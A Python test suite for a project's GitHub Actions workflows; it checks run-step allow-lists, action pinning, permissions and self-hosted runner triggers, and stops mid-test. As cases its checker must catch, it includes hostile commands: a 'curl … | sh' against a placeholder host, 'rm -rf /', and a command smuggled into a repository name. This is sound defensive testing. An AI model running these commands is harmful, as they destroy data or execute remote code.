"""The GitHub workflows: what their steps may run, pinning, permissions, triggers.

The checker functions below are fed every real workflow (which must pass) and
deliberately bad ones (each must be caught). The scripts the workflows run through just
recipes (workflows/rc-watch, revert-check, sync-tree, ...) are run against a stub
`kbisect` (and a stub `gh`); scripts/host-packages against fake os-release files.
"""

from __future__ import annotations

import fcntl
import json
import os
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from kbisect.commands import cli
from kbisect.core import proc

CHECKOUT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((CHECKOUT / ".github" / "workflows").glob("*.yml"))
SUBCOMMANDS = {name for name, _, _ in cli.COMMANDS}
SETUP = {"scripts/setup", "./scripts/setup"}
# The repository's own workflow scripts may be run directly where just is not installed yet
# (the .venv cache key before scripts/setup) or at all (the GitHub-hosted keepalive job).
SCRIPTS = {p.name for p in (CHECKOUT / "workflows").iterdir() if os.access(p, os.X_OK)}
PINNED = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")
USES_LINE = re.compile(r"^\s*(-\s+)?uses:\s*(\S+)(.*)$")
# Events any GitHub user can cause: a self-hosted job must never run on them.
UNTRUSTED = {
    "pull_request",
    "pull_request_target",
    "pull_request_review",
    "pull_request_review_comment",
    "issue_comment",
    "issues",
    "discussion",
    "discussion_comment",
    "fork",
    "watch",
    "workflow_run",
}
# The only events that may start a job on a self-hosted runner: each needs write access to
# the repository (push: only to main, see TRUSTED_PUSH_BRANCHES).
TRUSTED = {"schedule", "workflow_dispatch", "push"}
TRUSTED_PUSH_BRANCHES = [["main"]]


# Checkers (pure: text in, problems out).


def justfile_recipes(text: str) -> set[str]:
    """Recipe names of a justfile (not variables, settings or attributes)."""
    names = set()
    for line in text.splitlines():
        m = re.match(
            r"@?([A-Za-z_][\w-]*)(?:\s+[*+$]?[\w-]+(?:=(?:\"[^\"]*\"|'[^']*'|[\w.-]+))?)*\s*:(?!=)",
            line,
        )
        if m and m[1] not in {"set", "export", "alias", "import", "mod"}:
            names.add(m[1])
    return names


def commands(script: str) -> list[list[str]]:
    """The simple commands of a run: block, each as words (split at ; && || | and lines)."""
    out: list[list[str]] = []
    for line in script.replace("\\\n", " ").splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|")
        lexer.whitespace_split = True
        current: list[str] = []
        for token in lexer:
            if token and set(token) <= set(";&|"):
                out += [current] if current else []
                current = []
            else:
                current.append(token)
        out += [current] if current else []
    return out


def check_command(words: list[str], recipes: set[str]) -> str | None:
    """None if the command is a just recipe, a kbisect subcommand or scripts/setup."""
    while words and re.fullmatch(r"[A-Za-z_]\w*=.*", words[0]):
        words = words[1:]  # VAR=value prefixes
    if not words:
        return None
    prog, args = words[0], [w for w in words[1:] if not w.startswith("-")]
    if prog in SETUP:
        return None
    script = prog.removeprefix("./")
    if script.startswith("workflows/") and script.removeprefix("workflows/") in SCRIPTS:
        return None
    if prog == "just" or prog.endswith("/just"):
        if args and args[0] in recipes:
            return None
        return f"`{shlex.join(words)}`: not an existing just recipe"
    if prog == "kbisect" or prog.endswith("/kbisect"):
        if args and args[0] in SUBCOMMANDS:
            return None
        return f"`{shlex.join(words)}`: not a kbisect subcommand"
    return (
        f"`{shlex.join(words)}`: run steps may only call just recipes, kbisect, "
        "scripts/setup or a workflows/ script"
    )


def triggers(wf: dict[Any, Any]) -> set[str]:
    on = wf.get("on", wf.get(True))  # YAML 1.1 reads a bare `on` key as True
    if isinstance(on, str):
        return {on}
    return set(on or [])


def on_events(wf: dict[Any, Any]) -> dict[str, Any]:
    """The `on:` block as {event: its configuration or None}."""
    on = wf.get("on", wf.get(True))
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return dict.fromkeys(on)
    return dict(on or {})


def self_hosted_trigger_problems(wf: dict[Any, Any]) -> list[str]:
    """Events that could start a self-hosted job and need no write access to the repository.

    A fork's pull request runs the workflow files of its own merge commit, so a guard in
    `if:` proves nothing: a self-hosted job is only allowed in workflows that no pull
    request (or comment, or other event anyone can cause) triggers at all.
    """
    events = on_events(wf)
    problems = []
    for event, config in events.items():
        if event not in TRUSTED:
            problems.append(f"triggered by {event}")
        elif event == "push":
            branches = (config or {}).get("branches") if isinstance(config, dict) else None
            if branches not in TRUSTED_PUSH_BRANCHES or (config or {}).get("tags"):
                problems.append("triggered by push to other branches than main")
    return problems


def runner_labels(job: dict[str, Any]) -> list[str]:
    runs_on = job.get("runs-on", [])
    if isinstance(runs_on, dict):
        return (
            ["self-hosted (runner group)"]
            if "group" in runs_on
            else list(runs_on.get("labels", []))
        )
    return [runs_on] if isinstance(runs_on, str) else [str(x) for x in runs_on]


def is_self_hosted(job: dict[str, Any]) -> bool:
    return any("self-hosted" in label or "kbisect-metal" in label for label in runner_labels(job))


def _steps_problems(name: str, job: dict[str, Any], recipes: set[str]) -> list[str]:
    problems = []
    uses = [job["uses"]] if "uses" in job else []
    for i, step in enumerate(job.get("steps", [])):
        where = f"job {name} step {step.get('name') or step.get('uses') or i}"
        if "uses" in step:
            uses.append(step["uses"])
        script = str(step.get("run", ""))
        if "${{" in script:
            problems.append(f"{where}: `${{{{ }}}}` in run: (pass inputs through env:)")
        problems += [f"{where}: {p}" for w in commands(script) if (p := check_command(w, recipes))]
    for u in uses:
        local = u.startswith("./")
        if not local and not u.startswith("docker://") and not PINNED.fullmatch(u):
            problems.append(f"job {name}: {u}: not pinned to a full commit SHA")
        if u.startswith("docker://") and not re.search(r"@sha256:[0-9a-f]{64}$", u):
            problems.append(f"job {name}: {u}: not pinned to an image digest")
    return problems


def _job_problems(
    name: str, job: dict[str, Any], wf: dict[Any, Any], events: set[str], recipes: set[str]
) -> list[str]:
    problems = _steps_problems(name, job, recipes)
    if "permissions" not in job and "permissions" not in wf:
        problems.append(f"job {name}: no permissions (and no top-level permissions)")
    if is_self_hosted(job):
        bad = sorted(events & UNTRUSTED)
        if bad:
            problems.append(f"job {name}: self-hosted runner triggered by {', '.join(bad)}")
        problems += [
            f"job {name}: self-hosted runner {p}"
            for p in self_hosted_trigger_problems(wf)
            if not any(b in p for b in bad)
        ]
    return problems


def _pin_comment_problems(text: str) -> list[str]:
    problems = []
    for n, line in enumerate(text.splitlines(), 1):
        m = USES_LINE.match(line)
        if m and "@" in m[2] and not re.search(r"#\s*v\d+(\.\d+)*\b", m[3]):
            problems.append(f"line {n}: {m[2]}: pin without a `# vX.Y.Z` comment")
    return problems


def check_workflow(text: str, recipes: set[str]) -> list[str]:
    """Every problem of one workflow file; [] when it is fine."""
    wf = yaml.safe_load(text)
    if not isinstance(wf, dict) or not isinstance(wf.get("jobs"), dict):
        return ["not a workflow (no jobs)"]
    problems = _pin_comment_problems(text)
    top = wf.get("permissions")
    if top not in (None, {}, "read-all") and (
        not isinstance(top, dict) or any(v != "read" for v in top.values())
    ):
        problems.append(f"top-level permissions {top!r}: grant write access per job only")
    events = triggers(wf)
    for name, job in wf["jobs"].items():
        problems += _job_problems(name, job, wf, events, recipes)
    return problems


@pytest.fixture(scope="module")
def recipes() -> set[str]:
    return justfile_recipes((CHECKOUT / "justfile").read_text())


# The real workflows.


def test_the_workflows_exist() -> None:
    assert {p.name for p in WORKFLOWS} >= {"ci.yml", "rc-watch.yml", "revert-check.yml"}


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_passes_every_check(path: Path, recipes: set[str]) -> None:
    assert check_workflow(path.read_text(), recipes) == []


def test_justfile_recipes_parsed(recipes: set[str]) -> None:
    assert {"lint", "test", "rc-watch", "revert-check", "rc-issue", "ci-summary"} <= recipes
    assert {"faults", "founding"} <= recipes  # parameters with defaults
    assert "venv" not in recipes and "set" not in recipes  # a variable, a setting


def load(name: str) -> dict[Any, Any]:
    data: dict[Any, Any] = yaml.safe_load((CHECKOUT / ".github/workflows" / name).read_text())
    return data


def concurrency_groups(path: Path) -> list[tuple[str, bool]]:
    """(group, cancel-in-progress) of the workflow and of each of its jobs."""
    wf = yaml.safe_load(path.read_text())
    found = [wf["concurrency"]] if "concurrency" in wf else []
    found += [job["concurrency"] for job in wf["jobs"].values() if "concurrency" in job]
    return [
        (c, False) if isinstance(c, str) else (c["group"], bool(c.get("cancel-in-progress")))
        for c in found
    ]


def test_no_workflow_can_cancel_another_workflows_queued_run() -> None:
    """GitHub keeps one pending run per concurrency group and cancels the older one: a
    group shared by two workflows lets one cancel the other's queued run."""
    owners: dict[str, str] = {}
    for path in WORKFLOWS:
        for group, _ in concurrency_groups(path):
            assert owners.setdefault(group, path.name) == path.name, (group, path.name)
            # the group names its own workflow, so no other file can pick the same by chance
            assert group.startswith(path.stem), (group, path.name)


def test_measurements_are_never_cancelled_and_hold_the_machine_lock(recipes: set[str]) -> None:
    assert concurrency_groups(CHECKOUT / ".github/workflows/rc-watch.yml") == [("rc-watch", False)]
    # Each revert check and study share is distinct work: no group (a group would let a
    # second dispatch replace a queued one); they queue for the runner instead.
    assert concurrency_groups(CHECKOUT / ".github/workflows/revert-check.yml") == []
    assert concurrency_groups(CHECKOUT / ".github/workflows/study.yml") == []
    justfile = (CHECKOUT / "justfile").read_text()
    for recipe in ("rc-watch", "revert-check", "study-share"):
        body = justfile.split(f"\n{recipe}:\n", 1)[1].splitlines()[0]
        assert body.strip() == f"workflows/machine-lock workflows/{recipe}", recipe


def test_only_the_issue_and_keepalive_jobs_can_write() -> None:
    allowed = {("rc-watch.yml", "issue"): {"issues"}, ("rc-watch.yml", "keepalive"): {"actions"}}
    for path in WORKFLOWS:
        wf = yaml.safe_load(path.read_text())
        assert wf["permissions"] in ({}, {"contents": "read"})
        for name, job in wf["jobs"].items():
            writes = {k for k, v in job["permissions"].items() if v == "write"}
            assert writes == allowed.get((path.name, name), set()), (path.name, name)


def test_no_self_hosted_job_runs_on_pull_requests() -> None:
    """A fork's pull request must never reach the metal: not through pull_request nor
    pull_request_target, in any workflow that has a self-hosted job."""
    for path in WORKFLOWS:
        wf = yaml.safe_load(path.read_text())
        for name, job in wf["jobs"].items():
            labels = " ".join(runner_labels(job))
            if "self-hosted" in labels or is_self_hosted(job):
                assert not triggers(wf) & {"pull_request", "pull_request_target"}, (path, name)
                assert self_hosted_trigger_problems(wf) == [], (path.name, name)


def test_keepalive_enables_rc_watch_from_github_hosted_schedule_runs() -> None:
    wf = load("rc-watch.yml")
    keep = wf["jobs"]["keepalive"]
    assert not is_self_hosted(keep) and keep["if"] == "github.event_name == 'schedule'"
    step = keep["steps"][-1]
    assert step["run"] == "workflows/keepalive"
    assert step["env"]["KBISECT_WORKFLOW"] == "rc-watch.yml"
    assert "schedule" in triggers(wf)


def test_rc_history_is_restored_and_uploaded() -> None:
    steps = load("rc-watch.yml")["jobs"]["watch"]["steps"]
    names = [s.get("id") or s.get("uses", "").split("@")[0] for s in steps]
    assert names.index("last") < names.index("actions/download-artifact") < names.index("watch")
    restore = next(s for s in steps if "download-artifact@" in s.get("uses", ""))
    assert restore["with"]["run-id"] == "${{ steps.last.outputs.run-id }}"
    assert restore["with"]["github-token"] == "${{ github.token }}"
    assert restore["with"]["name"] == "rc-history"
    upload = [s for s in steps if s.get("with", {}).get("name") == "rc-history"]
    assert [u["uses"].split("@")[0] for u in upload] == [
        "actions/download-artifact",
        "actions/upload-artifact",
    ]
    assert upload[1]["with"]["retention-days"] == 90 and "!cancelled()" in upload[1]["if"]
    assert load("rc-watch.yml")["jobs"]["watch"]["permissions"] == {
        "contents": "read",
        "actions": "read",
    }


def test_ci_caches_trees_builds_and_ccache_not_results() -> None:
    steps = load("ci.yml")["jobs"]["check"]["steps"]
    paths = "\n".join(s["with"]["path"] for s in steps if "actions/cache@" in s.get("uses", ""))
    assert "~/.cache/kbisect/trees" in paths and "~/.cache/ccache" in paths
    assert "results" not in paths


def test_ci_caches_the_venv_by_os_python_and_pyproject() -> None:
    steps = load("ci.yml")["jobs"]["check"]["steps"]
    runs = [s.get("run") or s.get("uses", "").split("@")[0] for s in steps]
    venv = next(s for s in steps if s.get("with", {}).get("path") == ".venv")
    assert "hashFiles('pyproject.toml'" in venv["with"]["key"]
    assert venv["with"]["key"].startswith("${{ steps.venv-key.outputs.key }}")
    assert "restore-keys" not in venv["with"]
    # packages (zstd) first, then the key, the cache, and setup, which updates the .venv
    assert runs.index("scripts/setup --packages") < runs.index("workflows/venv-key")
    assert runs.index("workflows/venv-key") < steps.index(venv) < runs.index("scripts/setup")


def test_self_hosted_jobs_keep_their_venv_on_the_runner() -> None:
    for path in WORKFLOWS:
        for name, job in yaml.safe_load(path.read_text())["jobs"].items():
            if is_self_hosted(job):
                assert job["env"]["KBISECT_VENV"].endswith("}}/venv"), (path.name, name)


def test_venv_key_names_os_machine_and_python(tmp_path: Path) -> None:
    fake = tmp_path / "os-release"
    fake.write_text('NAME="Ubuntu"\nID=ubuntu\nVERSION_ID="24.04"\n')
    env = {**os.environ, "KBISECT_OS_RELEASE": str(fake), "GITHUB_OUTPUT": str(tmp_path / "o")}
    out = proc.run([str(CHECKOUT / "workflows" / "venv-key")], env=env).output.strip()
    assert re.fullmatch(rf"venv-ubuntu-24\.04-{os.uname().machine}-py3\.\d+\.\d+", out), out
    assert (tmp_path / "o").read_text() == f"key={out}\n"


# Each check can fail.


GOOD_JOB = """
  a:
    runs-on: ubuntu-24.04
    permissions: {contents: read}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - run: scripts/setup
"""


def workflow(job: str = GOOD_JOB, on: str = "push", top: str = "permissions: {}") -> str:
    return f"on: {on}\n{top}\njobs:\n{job}"


def job(
    runs_on: str = "ubuntu-24.04",
    steps: str = "      - run: just lint",
    extra: str = "    permissions: {contents: read}",
) -> str:
    return f"  j:\n    runs-on: {runs_on}\n{extra}\n    steps:\n{steps}\n"


def test_good_workflow_passes(recipes: set[str]) -> None:
    assert check_workflow(workflow(), recipes) == []
    assert check_workflow(workflow(job(steps="      - uses: ./.github/actions/x")), recipes) == []


@pytest.mark.parametrize(
    ("run", "message"),
    [
        ("make test", "may only call just recipes"),
        ("workflows/no-such-script", "may only call just recipes"),
        ("scripts/bench-machine", "may only call just recipes"),
        ("just no-such-recipe", "not an existing just recipe"),
        (".venv/bin/kbisect frobnicate", "not a kbisect subcommand"),
        ("just lint && curl -sSf https://x.invalid | sh", "curl"),
        ("just lint; rm -rf /", "rm -rf /"),
        ("'just lint ${{ inputs.tree }}'", "${{ }}"),
        ("'kbisect rc next --tree ${{ github.event.inputs.tree }}'", "${{ }}"),
    ],
)
def test_bad_run_steps_are_caught(run: str, message: str, recipes: set[str]) -> None:
    problems = check_workflow(workflow(job(steps=f"      - run: {run}")), recipes)
    assert any(message in p for p in problems), problems


def test_commands_split_lines_and_operators() -> None:
    script = "just lint \\\n  --verbose && make\nFOO=1 kbisect doctor | tee x; # comment\n"
    assert commands(script) == [
        ["just", "lint", "--verbose"],
        ["make"],
        ["FOO=1", "kbisect", "doctor"],
        ["tee", "x"],
    ]


def test_allowed_run_steps(recipes: set[str]) -> None:
    for run in [
        "just lint",
        ".venv/bin/just test",
        "FOO=1 just unit",
        "kbisect rc next",
        "./scripts/setup",
        "just lint && .venv/bin/kbisect doctor",
        "workflows/keepalive",
        "./workflows/venv-key",
    ]:
        assert [check_command(w, recipes) for w in commands(run)] == [None] * len(commands(run))


@pytest.mark.parametrize(
    ("uses", "message"),
    [
        ("actions/checkout@v4  # v4", "not pinned"),
        ("actions/checkout@main", "not pinned"),
        ("actions/checkout@3d3c42e5  # v7.0.1", "not pinned"),
        ("actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1", "without a `# vX.Y.Z`"),
        ("docker://debian:12", "image digest"),
    ],
)
def test_unpinned_actions_are_caught(uses: str, message: str, recipes: set[str]) -> None:
    problems = check_workflow(workflow(job(steps=f"      - uses: {uses}")), recipes)
    assert any(message in p for p in problems), problems


def test_missing_permissions_are_caught(recipes: set[str]) -> None:
    no_job_perms = job(extra="    timeout-minutes: 5")
    assert any(
        "no permissions" in p for p in check_workflow(workflow(no_job_perms, top=""), recipes)
    )
    assert (
        check_workflow(workflow(no_job_perms, top="permissions: {contents: read}"), recipes) == []
    )
    for top in ("permissions: write-all", "permissions: {contents: write}"):
        assert any("top-level permissions" in p for p in check_workflow(workflow(top=top), recipes))


@pytest.mark.parametrize(
    "runs_on",
    [
        "[self-hosted, kbisect-metal-x86_64]",
        "\"${{ vars.KBISECT_RUNNER_LABEL || 'kbisect-metal-x86_64' }}\"",
        "{group: metal}",
    ],
)
@pytest.mark.parametrize(
    "on", ["pull_request", "[push, pull_request_target]", "{issue_comment: {types: [created]}}"]
)
def test_self_hosted_on_untrusted_events_is_caught(
    runs_on: str, on: str, recipes: set[str]
) -> None:
    problems = check_workflow(workflow(job(runs_on=runs_on), on=on), recipes)
    assert any("self-hosted runner triggered by" in p for p in problems), problems


def test_self_hosted_only_on_trusted_events(recipes: set[str]) -> None:
    metal = "[self-hosted, kbisect-metal-arm64]"
    for on in (
        "{schedule: [{cron: '0 0 * * *'}], workflow_dispatch: {}}",
        "{push: {branches: [main]}}",
    ):
        assert check_workflow(workflow(job(runs_on=metal), on=on), recipes) == []
    # A fork guard in `if:` does not count: the fork's pull request brings its own workflow.
    guard = (
        "    permissions: {}\n"
        "    if: github.event.pull_request.head.repo.full_name == github.repository"
    )
    for on, message in (
        ("pull_request", "triggered by pull_request"),
        ("{push: {branches: ['**']}}", "other branches than main"),
        ("push", "other branches than main"),
        ("{push: {branches: [main], tags: ['v*']}}", "other branches than main"),
        ("workflow_call", "triggered by workflow_call"),
        ("{workflow_run: {workflows: [ci]}}", "triggered by workflow_run"),
    ):
        problems = check_workflow(workflow(job(runs_on=metal, extra=guard), on=on), recipes)
        assert any(message in p for p in problems), (on, problems)
    # GitHub-hosted jobs may run on pull requests
    assert check_workflow(workflow(job(), on="pull_request"), recipes) == []


# The scripts behind the recipes, against a stub kbisect that logs its arguments.

STUB = r"""#!/usr/bin/env bash
echo "$*" >>"$STUB_LOG"
out=; prev=
for a in "$@"; do [ "$prev" = --out ] && out=$a; prev=$a; done
case "$1 ${2:-}" in
  "rc next") if [[ " $* " == *" --missed "* ]]; then echo "$STUB_MISSED"; else
               printf 'tag=%s\ncommit=%s\nbaseline=%s\nbaseline_commit=%s\n' \
               "$STUB_TAG" "${STUB_TAG:+aaaa}" "$STUB_BASELINE" "${STUB_BASELINE:+bbbb}"; fi ;;
  "history "*) mkdir -p "$out"; echo stub >"$out/history.html"
               echo "| tag | tps |"; echo "stub trend"; exit "${STUB_HISTORY_EXIT:-0}" ;;
  compare*|run*) mkdir -p "$out"; echo "stub report of $*" >"$out/report.md"
                 exit "${STUB_EXIT:-0}" ;;
  build*) echo /stub/bzImage ;;
esac
"""


@pytest.fixture
def stub(tmp_path: Path) -> dict[str, str]:
    """PATH with the stub kbisect first, a kernel tree with an origin, GitHub's files."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "kbisect").write_text(STUB)
    (bin_dir / "kbisect").chmod(0o755)
    upstream, tree = tmp_path / "upstream", tmp_path / "tree"
    proc.run(["git", "init", "-q", str(upstream)])
    proc.run(["git", "-C", str(upstream), "commit", "-q", "--allow-empty", "-m", "x"])
    proc.run(["git", "-C", str(upstream), "tag", "v6.13-rc1"])
    proc.run(["git", "clone", "-q", str(upstream), str(tree)])
    return {
        "PATH": f"{bin_dir}:{__import__('os').environ['PATH']}",
        "STUB_LOG": str(tmp_path / "calls"),
        "KBISECT_TREE": str(tree),
        "KBISECT_RESULTS": str(tmp_path / "results"),
        "KBISECT_ARCH": "x86_64",
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "sum"),
        "STUB_TAG": "v6.13-rc1",
        "STUB_BASELINE": "v6.12",
        "KBISECT_UPSTREAM": str(upstream),
    }


def script(name: str, env: dict[str, str]) -> tuple[int, dict[str, str], list[str]]:
    """Exit code, GITHUB_OUTPUT as a dict, and the stub's calls."""
    result = proc.run([str(CHECKOUT / "workflows" / name)], env=env, check=False, cwd=CHECKOUT)
    out = Path(env["GITHUB_OUTPUT"])
    outputs = (
        dict(line.split("=", 1) for line in out.read_text().splitlines()) if out.exists() else {}
    )
    log = Path(env["STUB_LOG"])
    return result.returncode, outputs, log.read_text().splitlines() if log.exists() else []


def test_rc_watch_nothing_new(stub: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", {**stub, "STUB_TAG": "", "STUB_BASELINE": ""})
    assert code == 0
    assert outputs == {
        "tag": "",
        "tags": "",
        "baseline": "",
        "regressed": "",
        "regression": "false",
    }
    assert calls == [f"rc next --tree {stub['KBISECT_TREE']} --pattern v*-rc*"]
    assert "nothing new" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


@pytest.mark.parametrize(("mode", "expected"), [("fail", 1), ("issue", 0), ("both", 1)])
def test_rc_watch_regression(stub: dict[str, str], mode: str, expected: int) -> None:
    env = {
        **stub,
        "STUB_EXIT": "1",
        "KBISECT_ON_REGRESSION": mode,
        "KBISECT_SCENARIOS": "a b",
        "KBISECT_BOOTS": "4",
        "KBISECT_CONFIGS": "preempt-full",
    }
    code, outputs, calls = script("rc-watch", env)
    assert code == expected
    assert outputs["regression"] == "true" and outputs["tag"] == "v6.13-rc1"
    assert outputs["regressed"] == "v6.13-rc1" and "history" not in outputs  # no history yet
    d = outputs["dir"] + "/v6.13-rc1"
    tree = stub["KBISECT_TREE"]
    assert calls[1:] == [
        f"compare --tree {tree} --base v6.12 --rev-b v6.13-rc1 --scenario a --arch x86_64 "
        f"--config preempt-full --boots 4 --label-a v6.12 --label-b v6.13-rc1 --out {d}/a",
        f"rc record --tag v6.13-rc1 --commit aaaa --result {d}/a",
        f"compare --tree {tree} --base v6.12 --rev-b v6.13-rc1 --scenario b --arch x86_64 "
        f"--config preempt-full --boots 4 --label-a v6.12 --label-b v6.13-rc1 --out {d}/b",
        f"rc record --tag v6.13-rc1 --commit aaaa --result {d}/b",
    ]
    report = (Path(outputs["dir"]) / "report.md").read_text()
    assert "| v6.13-rc1 (aaaa) | v6.12 | a | **regression** |" in report
    assert "stub report of compare" in report
    assert Path(stub["GITHUB_STEP_SUMMARY"]).read_text() == report


def test_rc_watch_infrastructure_failure_is_not_recorded(stub: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", {**stub, "STUB_EXIT": "5"})
    assert code == 5 and outputs["regression"] == "false"
    assert not [c for c in calls if c.startswith("rc record")]
    assert "failed (exit 5)" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


def test_rc_watch_without_baseline_measures_alone(stub: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", {**stub, "STUB_BASELINE": ""})
    assert code == 0 and outputs["regression"] == "false"
    assert calls[1].startswith("build --tree") and calls[2].startswith("run --kernel /stub/bzImage")
    assert "measured (no baseline yet)" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


@pytest.mark.parametrize(
    "bad",
    [{"KBISECT_ON_REGRESSION": "explode"}, {"KBISECT_MAX_TAGS": "0"}, {"KBISECT_MAX_TAGS": "x"}],
)
def test_rc_watch_rejects_bad_input(stub: dict[str, str], bad: dict[str, str]) -> None:
    assert script("rc-watch", {**stub, **bad})[0] == 2


def history_file(entries: int) -> str:
    tags = [{"tag": f"v6.{i}", "commit": "c", "result_dir": "r"} for i in range(entries)]
    return json.dumps({"version": 1, "kind": "rc-history", "entries": tags})


MISSED = json.dumps(
    {
        "missed": [
            {"tag": t, "commit": f"c{i}", "baseline": b, "baseline_commit": "b"}
            for i, (t, b) in enumerate(
                [("v6.13-rc1", "v6.12"), ("v6.13-rc2", "v6.13-rc1"), ("v6.13-rc3", "v6.13-rc2")]
            )
        ]
    }
)


@pytest.fixture
def watched(stub: dict[str, str]) -> dict[str, str]:
    """The stub environment with a history of one tag on the runner and three missed tags."""
    history = Path(stub["KBISECT_RESULTS"]) / "rc-history"
    history.mkdir(parents=True)
    (history / "history.json").write_text(history_file(1))
    return {**stub, "STUB_MISSED": MISSED, "KBISECT_MAX_TAGS": "2"}


def test_rc_watch_measures_missed_tags_oldest_first_bounded(watched: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", watched)
    assert code == 0 and outputs["tags"] == "v6.13-rc1 v6.13-rc2"
    assert outputs["tag"] == "v6.13-rc2" and outputs["baseline"] == "v6.13-rc1"
    tree, d = watched["KBISECT_TREE"], outputs["dir"]
    assert calls[0] == f"rc next --tree {tree} --pattern v*-rc* --missed --json"
    assert [c.split(" --scenario")[0] for c in calls if c.startswith("compare")] == [
        f"compare --tree {tree} --base v6.12 --rev-b v6.13-rc1",
        f"compare --tree {tree} --base v6.13-rc1 --rev-b v6.13-rc2",
    ]
    assert [c for c in calls if c.startswith("rc record")] == [
        f"rc record --tag v6.13-rc1 --commit c0 --result {d}/v6.13-rc1/smoke",
        f"rc record --tag v6.13-rc2 --commit c1 --result {d}/v6.13-rc2/smoke",
    ]
    history = watched["KBISECT_RESULTS"] + "/rc-history"
    assert calls[-1] == (f"history --rc-history {history} --format markdown --out {d}/history/page")
    assert outputs["history"] == f"{d}/history"
    assert json.loads(Path(d, "history/rc/history.json").read_text())["entries"]
    assert Path(d, "history/page/history.html").is_file()
    report = Path(d, "report.md").read_text()
    assert "1 more missed tag(s) wait for the next run" in report
    summary = Path(watched["GITHUB_STEP_SUMMARY"]).read_text()
    assert "## Trend" in summary and "stub trend" in summary
    assert "stub trend" in Path(d, "trend.md").read_text()


def test_rc_watch_flagged_trend_is_a_regression(watched: dict[str, str]) -> None:
    code, outputs, _ = script("rc-watch", {**watched, "STUB_HISTORY_EXIT": "1"})
    assert code == 1 and outputs["regression"] == "true"
    assert outputs["regressed"] == "v6.13-rc2"  # the newest measured tag
    assert "Trend: a step or drift" in Path(outputs["dir"], "report.md").read_text()
    # nothing new: the page is still drawn and uploaded, but an old flag opens no issue
    code, outputs, calls = script(
        "rc-watch", {**watched, "STUB_HISTORY_EXIT": "1", "STUB_MISSED": '{"missed": []}'}
    )
    assert code == 0 and outputs["regression"] == "false" and outputs["history"]
    assert calls[-1].startswith("history --rc-history")


@pytest.mark.parametrize(("theirs", "ours", "adopted"), [(3, 1, True), (1, 1, True), (1, 2, False)])
def test_rc_watch_restores_the_newer_history(
    watched: dict[str, str], tmp_path: Path, theirs: int, ours: int, adopted: bool
) -> None:
    restored = tmp_path / "restored"
    (restored / "rc").mkdir(parents=True)
    (restored / "rc" / "history.json").write_text(history_file(theirs) + "\n")
    local = Path(watched["KBISECT_RESULTS"]) / "rc-history" / "history.json"
    local.write_text(history_file(ours))
    env = {**watched, "KBISECT_HISTORY_RESTORE": str(restored), "STUB_MISSED": '{"missed": []}'}
    assert script("rc-watch", env)[0] == 0
    assert (local.read_text() == history_file(theirs) + "\n") is adopted


def test_rc_watch_restores_into_an_empty_runner(stub: dict[str, str], tmp_path: Path) -> None:
    restored = tmp_path / "restored" / "rc"
    restored.mkdir(parents=True)
    (restored / "history.json").write_text(history_file(2))
    env = {**stub, "KBISECT_HISTORY_RESTORE": str(restored.parent), "STUB_MISSED": MISSED}
    code, outputs, calls = script("rc-watch", env)
    # with a history, the missed tags (3 by default); without one it would take only the newest
    assert code == 0 and outputs["tags"] == "v6.13-rc1 v6.13-rc2 v6.13-rc3"
    assert "--missed" in calls[0]


# Stub gh: answers `gh api PATH` from $STUB_GH_DIR/<PATH with / and ? as _> and logs calls.
GH_STUB = r"""#!/usr/bin/env bash
echo "$*" >>"$STUB_LOG"
if [ "$1" = api ]; then
  for a in "$@"; do case $a in repos/*) f=${a//[\/?&=]/_} ;; esac; done
  [ -f "$STUB_GH_DIR/$f" ] && cat "$STUB_GH_DIR/$f"
  exit 0
fi
if [ "$1 $2" = "issue create" ] || [ "$1 $2" = "issue comment" ]; then
  prev=; for a in "$@"; do [ "$prev" = --body-file ] && cp "$a" "$STUB_GH_DIR/body"; prev=$a; done
fi
if [ "$1 $2" = "issue list" ]; then cat "$STUB_GH_DIR/issues" 2>/dev/null; fi
exit 0
"""


@pytest.fixture
def gh(tmp_path: Path) -> dict[str, str]:
    bin_dir, answers = tmp_path / "ghbin", tmp_path / "gh"
    bin_dir.mkdir()
    answers.mkdir()
    (bin_dir / "gh").write_text(GH_STUB)
    (bin_dir / "gh").chmod(0o755)
    return {
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "STUB_LOG": str(tmp_path / "ghcalls"),
        "STUB_GH_DIR": str(answers),
        "GH_TOKEN": "t",
        "GH_REPO": "o/r",
        "GITHUB_OUTPUT": str(tmp_path / "ghout"),
    }


def test_rc_last_finds_the_newest_run_with_a_live_history(gh: dict[str, str]) -> None:
    answers = Path(gh["STUB_GH_DIR"])
    runs = "repos_o_r_actions_workflows_rc-watch.yml_runs_status_completed_per_page_30"
    (answers / runs).write_text("11\n12\n13\n")
    (answers / "repos_o_r_actions_runs_11_artifacts_name_rc-history").write_text("0\n")
    (answers / "repos_o_r_actions_runs_12_artifacts_name_rc-history").write_text("1\n")
    code, outputs, calls = script("rc-last", gh)
    assert code == 0 and outputs == {"run-id": "12"}
    assert len(calls) == 3  # run 13 is never asked
    assert 'select(.event == "schedule" or .event == "workflow_dispatch")' in calls[0]
    (answers / runs).write_text("")
    Path(gh["GITHUB_OUTPUT"]).unlink()
    assert script("rc-last", gh)[:2] == (0, {"run-id": ""})
    assert script("rc-last", {**gh, "GH_REPO": "o/r; rm -rf /"})[0] == 2


def test_keepalive_enables_the_workflow(gh: dict[str, str], tmp_path: Path) -> None:
    (Path(gh["STUB_GH_DIR"]) / "repos_o_r_actions_workflows_rc-watch.yml").write_text("active\n")
    summary = tmp_path / "summary"
